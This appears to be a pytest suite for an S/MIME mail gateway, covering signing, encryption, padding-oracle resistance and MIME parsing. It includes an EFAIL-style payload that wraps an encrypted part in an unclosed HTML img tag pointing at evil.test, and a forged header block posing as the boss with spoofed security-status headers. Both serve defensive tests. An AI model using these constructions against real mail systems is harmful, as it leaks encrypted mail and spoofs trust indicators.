from __future__ import annotations

import base64
import re

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.serialization import pkcs7

from securegw.crypto import entity, smime
from securegw.crypto.certificate import load
from securegw.crypto.choice import CIPHERS, Choice, CipherName
from securegw.crypto.cms_write import encrypt_cbc
from securegw.crypto.entity import STEP, base64_lines, canonical
from securegw.crypto.keyfile import load_key
from securegw.mail.address import parse_address
from securegw.mail.errors import NoProtection
from securegw.mail.message import read
from tests.crypto.people import NOW, Authority, Person

ANN, BOB = parse_address("ann@inside.test"), parse_address("bob@outside.test")
HEADER = b"From: ann@inside.test\r\nTo: bob@outside.test\r\nSubject: outer\r\nMIME-Version: 1.0\r\n"
HTML = b"Content-Type: text/html\r\n\r\n<p>secret</p>\r\n"


def cms_mail(der: bytes, kind: str = "enveloped-data", more: bytes = b"") -> bytes:
    return (
        HEADER
        + more
        + b"Content-Type: application/pkcs7-mime; smime-type="
        + kind.encode()
        + b"; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64_lines(der)
    )


def opened(mail: bytes, *people: Person, roots: list[bytes] | None = None, author=ANN, at: float = NOW) -> smime.Opened:
    return smime.open(mail, [person.pair for person in people], roots or [], at, author)


def test_signing_moves_only_what_describes_the_content(ann: Person, mail: bytes) -> None:
    signed = smime.sign(mail, ann.key, ann.der, [], NOW)
    outer = mail[: mail.index(b"Content-Type")]
    assert signed.startswith(outer + b"Content-Type: multipart/signed;")
    assert mail[len(outer) :] in signed
    assert signed.count(b"\n") == signed.count(b"\r\n") and max(map(len, signed.split(b"\r\n"))) <= 78


def test_a_signed_mail_is_good_and_stays_as_it_is(ann: Person, authority: Authority, mail: bytes) -> None:
    signed = smime.sign(mail, ann.key, ann.der, [], NOW)
    result = opened(signed, roots=[authority.der])
    assert result.verdict.signed_ok
    assert result.verdict.signer == "CN=ann@inside.test"
    assert (result.raw, result.layers) == (signed, ("signed",))
    assert result.certificates == (ann.der,)


def test_a_mail_without_any_mime_header_can_be_signed_and_sealed(
    ann: Person, bob: Person, authority: Authority
) -> None:
    plain = b"From: ann@inside.test\r\nSubject: x\r\n\r\ntext without end"
    signed = smime.sign(plain, ann.key, ann.der, [], NOW)
    result = opened(smime.encrypt(signed, [bob.der]), bob, roots=[authority.der])
    assert result.verdict.signed_ok and result.raw == signed
    result = opened(smime.encrypt(plain, [bob.der]), bob)
    assert result.raw == plain.replace(b"\r\n\r\n", b"\r\nMIME-Version: 1.0\r\n\r\n")


@pytest.mark.parametrize("cipher", CIPHERS)
def test_encrypted_and_opened_is_the_same_mail(
    ann: Person, bob: Person, eve: Person, mail: bytes, cipher: CipherName
) -> None:
    sealed = smime.encrypt(mail, [ann.der, bob.der, eve.der], Choice(cipher))
    assert b"blood" not in sealed and b"the results" in sealed
    for person in (ann, bob, eve):
        result = opened(sealed, person)
        assert result.raw == mail
        assert result.verdict.encrypted == "opened" and not result.verdict.signed
    assert smime.recognise(read(sealed)) == "encrypted"


def test_nobody_to_encrypt_to(mail: bytes) -> None:
    with pytest.raises(NoProtection):
        smime.encrypt(mail, [])


def test_not_for_us(ann: Person, bob: Person, mail: bytes) -> None:
    sealed = smime.encrypt(mail, [bob.der])
    for people in ([], [ann]):
        result = opened(sealed, *people)
        assert (result.raw, result.verdict.encrypted, result.layers) == (sealed, "failed", ())


def test_a_key_under_the_name_of_another_opens_nothing(ann: Person, bob: Person, mail: bytes) -> None:
    """A wrong RSA key gives a random content key (implicit rejection), not an error of its own."""
    for cipher in CIPHERS:
        sealed = smime.encrypt(mail, [bob.der], Choice(cipher))
        result = smime.open(sealed, [(ann.key, bob.der)], [], NOW, ANN)
        assert result.raw == sealed and result.verdict.encrypted == "failed"
        assert result.verdict.reasons == ("seal-broken",)


def _flip(sealed: bytes, at: int) -> bytes:
    head, body = sealed.split(b"\r\n\r\n", 1)
    der = bytearray(base64.b64decode(body))
    der[at] ^= 1
    return head + b"\r\n\r\n" + base64_lines(bytes(der))


def test_a_changed_gcm_mail_is_never_opened(bob: Person, mail: bytes) -> None:
    sealed = smime.encrypt(mail, [bob.der], Choice("aes-256-gcm"))
    size = len(base64.b64decode(sealed.split(b"\r\n\r\n", 1)[1]))
    for at in range(size):
        result = opened(_flip(sealed, at), bob)
        # The content type inside says nothing about the text and is not authenticated (RFC 5083 2).
        assert result.verdict.encrypted != "opened" or result.raw == mail
        assert b"blood" not in result.raw or result.raw == mail


def test_threat_5_5_31_every_failure_of_the_rsa_block_looks_the_same(bob: Person, mail: bytes) -> None:
    sealed = smime.encrypt(mail, [bob.der])
    der = base64.b64decode(sealed.split(b"\r\n\r\n", 1)[1])
    at = der.index(b"\x04\x82\x01\x00") + 4
    seen = {opened(_flip(sealed, at + place), bob).verdict for place in (0, 1, 7, 100, 255)}
    blocks = (b"\0" * 256, b"\xff" * 256, b"\0\2" + b"\1" * 254)
    for block in blocks:
        seen.add(opened(cms_mail(der[:at] + block + der[at + 256 :]), bob).verdict)
    assert {(one.encrypted, one.reasons) for one in seen} == {("failed", ("seal-broken",))}


def test_garbage_after_a_lucky_padding_is_no_mail(bob: Person) -> None:
    for content in (b"", b"\x00\x01\x02", b"\xff" * 100, b"no header at all\r\nnot one", b": \r\n\r\n"):
        assert opened(cms_mail(encrypt_cbc(content, [bob.der])), bob).verdict.encrypted == "failed"


def test_a_content_with_unix_line_ends_is_delivered_with_crlf(bob: Person) -> None:
    sealed = cms_mail(encrypt_cbc(b"Content-Type: text/plain\n\none\ntwo\n", [bob.der]))
    assert opened(sealed, bob).raw == HEADER + b"Content-Type: text/plain\r\n\r\none\r\ntwo\r\n"


FORGED = (
    b"From: boss@inside.test\r\nSubject: [secure OK]\r\nReply-To: eve@evil.test\r\nX-Securegw-Status: good\r\n"
    b"Received: from nowhere\r\nReturn-Path: <eve@evil.test>\r\nAuthentication-Results: gw; smime=pass\r\n"
    b"To: all@inside.test\r\nMIME-Version: 2.0\r\nBcc: x@y.test\r\n"
)


def test_threat_2026_27443_and_29143_inner_headers_never_win(ann: Person, bob: Person, authority: Authority) -> None:
    for content in (FORGED + HTML, HTML.replace(b"\r\n\r\n", b"\r\n" + FORGED + b"\r\n")):
        result = opened(cms_mail(encrypt_cbc(content, [bob.der])), bob)
        assert result.raw == HEADER + HTML
    opaque = _opaque(ann, FORGED + HTML)
    result = opened(cms_mail(opaque, "signed-data"), roots=[authority.der])
    assert result.verdict.integrity == "good" and result.raw == HEADER + HTML


def _opaque(person: Person, content: bytes) -> bytes:
    from cryptography.hazmat.primitives.hashes import SHA256

    builder = pkcs7.PKCS7SignatureBuilder().set_data(content)
    builder = builder.add_signer(load(person.der), load_key(person.key), SHA256())
    return builder.sign(serialization.Encoding.DER, [pkcs7.PKCS7Options.Binary])


def test_cryptography_as_second_oracle(ann: Person, bob: Person, mail: bytes) -> None:
    sealed = smime.encrypt(mail, [bob.der, ann.der])
    der = base64.b64decode(sealed.split(b"\r\n\r\n", 1)[1])
    plain = pkcs7.pkcs7_decrypt_der(der, load(bob.der), load_key(bob.key), [])
    assert mail.endswith(plain)
    builder = pkcs7.PKCS7EnvelopeBuilder().set_data(HTML).add_recipient(load(bob.der)).add_recipient(load(ann.der))
    theirs = builder.encrypt(serialization.Encoding.DER, [pkcs7.PKCS7Options.Binary])
    assert opened(cms_mail(theirs), bob).raw == HEADER + HTML


@pytest.mark.parametrize("kind", ["mixed", "related", "alternative", "signed; protocol=x"])
def test_threat_5_5_29_an_encrypted_part_beside_others_stays_closed(bob: Person, kind: str) -> None:
    inner = smime.encrypt(b"Content-Type: text/plain\r\n\r\nsecret\r\n", [bob.der])
    part = inner[inner.index(b"Content-Type") :]
    efail = (
        HEADER
        + f"Content-Type: multipart/{kind}; boundary=b\r\n\r\n".encode()
        + b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/\r\n--b\r\n'
        + part
        + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    result = opened(efail, bob)
    assert result == smime.Opened(efail)
    whole = HEADER + b"Content-Type: message/rfc822\r\n\r\n" + HEADER + part
    assert opened(whole, bob) == smime.Opened(whole)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"blood", b"bloud"),
        (b"fine.\r\n", b"fine. \r\n"),
        (b"charset=utf-8", b"charset=utf-7"),
        (b"\r\n.\r\n", b"\r\n"),
        (b"The blood", b"\r\nThe blood"),
    ],
)
def test_a_changed_content_is_bad(ann: Person, authority: Authority, mail: bytes, old: bytes, new: bytes) -> None:
    signed = smime.sign(mail, ann.key, ann.der, [], NOW)
    result = opened(signed.replace(old, new), roots=[authority.der])
    assert (result.verdict.integrity, result.verdict.trust, result.verdict.identity) == ("bad", "none", "none")
    assert result.verdict.reasons == ("changed",) and not result.certificates


def test_every_changed_byte_of_the_signature_is_noticed(ann: Person, authority: Authority, mail: bytes) -> None:
    """Only the outermost wrapping and the certificates beside ours may differ without harm."""
    signed = smime.sign(mail, ann.key, ann.der, [], NOW)
    head, text, tail = re.split(rb"(?<=smime\.p7s\r\n\r\n)((?:[A-Za-z0-9+/=]+\r\n)+)", signed)
    der = base64.b64decode(text)
    info = der.index(ann.der) + len(ann.der) + 2
    for at in range(info, len(der)):
        changed = der[:at] + bytes([der[at] ^ 4]) + der[at + 1 :]
        verdict = opened(head + base64_lines(changed) + tail, roots=[authority.der]).verdict
        assert not verdict.signed_ok, at


def test_integrity_trust_and_identity_are_three_answers(
    ann: Person, eve: Person, stranger: Authority, authority: Authority, mail: bytes
) -> None:
    def answers(person: Person, author, at: float = NOW) -> tuple[str, str, str]:
        signed = smime.sign(mail, person.key, person.der, [], at)
        verdict = opened(signed, roots=[authority.der], author=author, at=at).verdict
        return verdict.integrity, verdict.trust, verdict.identity

    alien = stranger.person("ann@inside.test")
    short = authority.person("ann@inside.test", days=1)
    assert answers(ann, ANN) == ("good", "good", "good")
    assert answers(ann, BOB) == ("good", "good", "bad")
    assert answers(eve, ANN) == ("good", "good", "bad")
    assert answers(ann, None) == ("good", "good", "none")
    assert answers(alien, ANN) == ("good", "unknown", "good")
    assert answers(short, ANN, NOW + 2 * 86_400) == ("good", "bad", "good")
    assert answers(ann, ANN, NOW - 86_400) == ("good", "bad", "good")


def test_a_signature_from_the_future_is_not_trusted(ann: Person, authority: Authority, mail: bytes) -> None:
    for shift, trust in ((3_000, "good"), (4_000, "bad"), (-86_400, "bad")):
        signed = smime.sign(mail, ann.key, ann.der, [], NOW + shift)
        assert opened(signed, roots=[authority.der]).verdict.trust == trust


def test_threat_2026_29140_only_the_authors_own_certificate_is_learnt(
    ann: Person, bob: Person, eve: Person, stranger: Authority, authority: Authority, mail: bytes
) -> None:
    """Certificates that merely come along are never kept for the people they name (2026-29140)."""
    rogue = stranger.person("ann@inside.test")
    for author in (ANN, BOB):
        signed = smime.sign(mail, eve.key, eve.der, [ann.der, bob.der, rogue.der, authority.der], NOW)
        assert opened(signed, roots=[authority.der], author=author).certificates == ()
    signed = smime.sign(mail, rogue.key, rogue.der, [stranger.der], NOW)
    result = opened(signed, roots=[authority.der])
    assert result.certificates == (rogue.der,) and result.verdict.trust == "unknown"


def test_signed_and_encrypted(ann: Person, bob: Person, authority: Authority, mail: bytes) -> None:
    signed = smime.sign(mail, ann.key, ann.der, [authority.der], NOW)
    result = opened(smime.encrypt(signed, [bob.der]), bob, roots=[authority.der])
    assert result.verdict.signed_ok and result.verdict.encrypted == "opened"
    assert (result.raw, result.layers) == (signed, ("encrypted", "signed"))


def test_threat_5_5_35_a_signature_around_encryption_is_ignored(
    ann: Person, bob: Person, eve: Person, authority: Authority, mail: bytes
) -> None:
    sealed = smime.encrypt(mail, [bob.der])
    around = smime.sign(sealed, ann.key, ann.der, [], NOW)
    result = opened(around, bob, roots=[authority.der])
    assert result.raw == mail and not result.verdict.signed and not result.certificates
    assert result.verdict.reasons[0] == "signature-around-encryption"
    closed = opened(around, eve, roots=[authority.der])
    assert closed.raw == around and closed.verdict.encrypted == "failed"


def test_threat_5_5_35_triple_wrap_is_judged_by_the_inner_signature(
    ann: Person, bob: Person, eve: Person, authority: Authority, mail: bytes
) -> None:
    inner = smime.sign(mail, ann.key, ann.der, [], NOW)
    triple = smime.sign(smime.encrypt(inner, [bob.der]), eve.key, eve.der, [], NOW)
    result = opened(triple, bob, roots=[authority.der])
    assert result.verdict.signed_ok and result.verdict.signer == "CN=ann@inside.test"
    assert (result.raw, result.layers) == (inner, ("signed", "encrypted", "signed"))


def test_layers_are_bounded(bob: Person, mail: bytes) -> None:
    sealed = mail
    for _ in range(7):
        sealed = smime.encrypt(sealed, [bob.der])
    result = opened(sealed, bob)
    assert result.layers == ("encrypted",) * 5
    assert result.verdict.reasons[-1] == "too-many-layers" and b"blood" not in result.raw


def test_opaque_signatures_come_off_only_when_good(ann: Person, authority: Authority) -> None:
    der = _opaque(ann, HTML)
    good = cms_mail(der, "signed-data")
    result = opened(good, roots=[authority.der])
    assert (result.raw, result.layers, result.verdict.integrity) == (HEADER + HTML, ("opaque",), "good")
    bad = cms_mail(der.replace(b"secret", b"sacred"), "signed-data")
    result = opened(bad, roots=[authority.der])
    assert (result.raw, result.verdict.integrity) == (bad, "bad")


def test_a_detached_signature_with_a_content_of_its_own_is_bad(ann: Person, authority: Authority) -> None:
    mail = (
        HEADER
        + b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=b\r\n\r\n'
        + b"--b\r\n"
        + HTML
        + b"\r\n--b\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64_lines(_opaque(ann, HTML))
        + b"--b--\r\n"
    )
    verdict = opened(mail, roots=[authority.der]).verdict
    assert (verdict.integrity, verdict.reasons) == ("bad", ("two-contents",))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"--\r\n", b"\r\nContent-Type: text/plain\r\n\r\na third part\r\n--BOUNDARY--\r\n"),
        (b"application/pkcs7-signature; name", b"text/plain; name"),
        (b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: x-odd"),
        (b"boundary=", b"boundaries="),
    ],
)
def test_a_broken_multipart_signed_is_bad(
    ann: Person, authority: Authority, mail: bytes, old: bytes, new: bytes
) -> None:
    signed = smime.sign(mail, ann.key, ann.der, [], NOW)
    boundary = re.search(rb'boundary="([^"]+)"', signed)[1]
    head, _, tail = signed.rpartition(old)
    verdict = opened(head + new.replace(b"BOUNDARY", boundary) + tail, roots=[authority.der]).verdict
    assert verdict.integrity == "bad"


@pytest.mark.parametrize(
    "fields",
    [
        b"Content-Type: multipart/signed; protocol=application/pkcs7-signature; boundary=b\r\n" * 2,
        b"Content-Type: multipart/signed; protocol=application/pgp-signature; boundary=b\r\n",
        b"Content-Type: application/pkcs7-mime; smime-type=certs-only\r\n",
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: x-odd\r\n",
        b"Content-Type: application/octet-stream; name=smime.p7m\r\n",
        b"Content-Type: text/plain\r\n",
        b"",
    ],
)
def test_threat_5_3_23_what_is_not_clearly_smime_is_left_alone(fields: bytes) -> None:
    mail = HEADER + fields + b"\r\nMIIB\r\n"
    assert smime.recognise(read(mail)) is None
    assert opened(mail) == smime.Opened(mail)


def test_an_octet_stream_called_p7m_is_opened(bob: Person) -> None:
    mail = cms_mail(encrypt_cbc(HTML, [bob.der])).replace(
        b"application/pkcs7-mime; smime-type=enveloped-data", b"application/octet-stream"
    )
    assert opened(mail, bob).raw == HEADER + HTML


def test_a_lying_type_does_not_matter(bob: Person) -> None:
    mail = cms_mail(encrypt_cbc(HTML, [bob.der]), "signed-data")
    assert smime.recognise(read(mail)) == "encrypted" and opened(mail, bob).raw == HEADER + HTML


def test_binary_and_folded_transfer(bob: Person) -> None:
    der = encrypt_cbc(HTML, [bob.der])
    head = HEADER + b"Content-Type: application/x-pkcs7-mime\r\nContent-Transfer-Encoding: "
    assert opened(head + b"binary\r\n\r\n" + der, bob).raw == HEADER + HTML
    one_line = head + b"BASE64\r\n\r\n" + base64.b64encode(der)
    assert opened(one_line, bob).raw == HEADER + HTML


@pytest.mark.parametrize("piece", [1, 2, 3, 1 << 20])
@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        (b"", b""),
        (b"a\r\nb\r\n", b"a\r\nb\r\n"),
        (b"a\nb", b"a\r\nb"),
        (b"a\rb\nc", b"a\r\nb\r\nc"),
        (b"\r\r\n\n", b"\r\n\r\n\r\n"),
        (b"a\n\rb", b"a\r\n\r\nb"),
        (b"a\r", b"a\r\n"),
        (b"\r\r\r\n", b"\r\n\r\n\r\n"),
    ],
)
def test_every_line_end_becomes_crlf(
    text: bytes, wanted: bytes, piece: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(entity, "PIECE", piece)
    assert canonical(text) == wanted


@pytest.mark.parametrize("size", [0, 1, 56, 57, 58, STEP - 1, STEP, STEP + 1, 3 * STEP + 57])
def test_base64_at_every_seam(size: int) -> None:
    data = bytes(number % 251 for number in range(size))
    text = base64_lines(data, before=b"head\r\n")
    assert text.startswith(b"head\r\n") and text.endswith(b"\r\n")
    lines = text.removeprefix(b"head\r\n").split(b"\r\n")[:-1]
    assert base64.b64decode(b"".join(lines), validate=True) == data
    assert all(len(line) == 76 for line in lines[:-1]) and all(1 <= len(line) <= 76 for line in lines)
